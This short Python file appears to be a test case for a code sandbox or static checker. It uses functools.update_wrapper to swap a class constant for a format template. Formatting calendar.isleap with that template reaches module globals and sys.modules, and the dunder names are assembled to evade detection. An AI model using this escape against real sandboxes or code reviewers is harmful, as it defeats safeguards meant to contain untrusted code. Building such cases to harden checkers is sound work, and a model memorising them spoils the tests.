# family: format
# Escape: Page.TITLE is a class constant and nothing stores an attribute named TITLE (functools.update_wrapper
# with assigned=("TITLE",) copies it, but the names it copies are only checked for being safe, not recorded
# as stores). The copied run-time template walks calendar's globals to sys.modules.
import calendar
import functools
import types


class Page:
    TITLE = "{0}"

    def title(self, value) -> str:
        return self.TITLE.format(value)


def tool() -> str:
    edge = "_" * 2
    source = types.SimpleNamespace(TITLE="{0." + edge + "globals" + edge + "[sys].modules}")
    functools.update_wrapper(Page, source, ("TITLE",), ())
    return Page().title(calendar.isleap)
